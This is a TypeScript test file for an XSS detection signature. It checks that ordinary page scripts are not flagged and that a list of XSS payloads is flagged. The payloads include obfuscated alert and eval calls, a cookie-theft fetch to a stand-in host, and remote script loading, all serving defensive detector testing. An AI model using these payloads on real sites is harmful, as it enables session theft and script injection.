import { expect, test } from 'vitest';
import { xss } from '../../../src/attacks/signatures/xss.ts';
import { foundIn, jsonBody } from '../found-in.ts';

const page = (code: string): string => `<div id="a"></div>\n<script>\n${code}\n</script>`;

test.each([
  'var tree = new RBTree(function(a, b) { return a - b; });\ntree.insert(0);\ntree.insert(1);',
  "MathJax.Hub.Queue(function () {\n  // your startup commands\n  start('now');\n});",
  "import { jwtDecode } from './jwt-decode.js';\nconst token = 'eyJhsw5c';\nconst decoded = jwtDecode(token);",
  "function gtag() { dataLayer.push('x'); }\ngtag('js', new Date());\ngtag('config', 'UA-1-1');",
])('a program of the page itself is no attack: %s', (code) => {
  expect(foundIn(xss, jsonBody({ value: page(code) }))).toEqual([]);
});

const PROGRAM = 'var tree = new RBTree(function(a, b) { return a - b; });\ntree.insert(0);';

test.each([
  'alert(1)',
  "fetch('//evil.example/?' + document.cookie)",
  "top['al' + 'ert'](1)",
  "a['constructor']('x')()",
  "tree.src = 'x'",
  "$.post('x', 'y')",
  "import 'https://evil.example/x.js'",
  "new Image().src='//evil.example'",
  'x`y`',
  'document.forms[0].submit()',
  "\\u0061lert('x')",
  "e = eval; e('x')",
  "setTimeout('x()')",
  "location = 'javascript:x'",
  "s.innerHTML = 'x'",
])('but one that does more is, whatever stands around it: %s', (code) => {
  expect(foundIn(xss, jsonBody({ value: page(`${PROGRAM}\n${code}`) }))).not.toEqual([]);
  expect(foundIn(xss, jsonBody({ value: page(`${code};\n${PROGRAM}`) }))).not.toEqual([]);
});

test('a script of a few words is what somebody tries out', () => {
  expect(foundIn(xss, jsonBody({ value: '<script>hello(1)</script>' }))).not.toEqual([]);
  expect(foundIn(xss, jsonBody({ value: `<script>${PROGRAM}` }))).not.toEqual([]);
});
